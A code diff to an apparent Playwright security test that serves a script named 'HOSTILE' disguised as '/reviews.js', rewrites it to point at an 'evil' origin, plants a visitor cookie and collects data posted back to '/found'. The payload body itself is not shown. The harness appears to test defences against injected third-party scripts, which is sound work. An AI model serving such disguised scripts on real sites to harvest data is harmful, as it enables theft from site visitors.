@@ -37,13 +37,15 @@ async function attack(page: Page, context: BrowserContext): Promise<readonly Loo
     const { pathname } = new URL(route.request().url());
     if (pathname === '/found') found = JSON.parse(route.request().postData() ?? '[]');
     if (pathname === '/end') hasEnded = true;
-    const isScript = pathname === '/reviews.js';
+    const stranger = `127.0.0.1:${phone.address().port}`;
+    const bodies: Readonly<Record<string, string>> = {
+      '/reviews.js': HOSTILE.replaceAll('EVIL', evilOrigin).replace('STRANGER', stranger),
+      '/called': called > 0 ? 'yes' : 'no',
+    };
     return route.fulfill({
       contentType: 'text/javascript',
       headers: { 'access-control-allow-origin': '*' },
-      body: isScript
-        ? HOSTILE.replaceAll('EVIL', evilOrigin).replace('STRANGER', `127.0.0.1:${phone.address().port}`)
-        : '',
+      body: bodies[pathname] ?? '',
     });
   });
   await context.addCookies([{ name: 'visitor', value: 'sara', domain: '127.0.0.1', path: '/' }]);
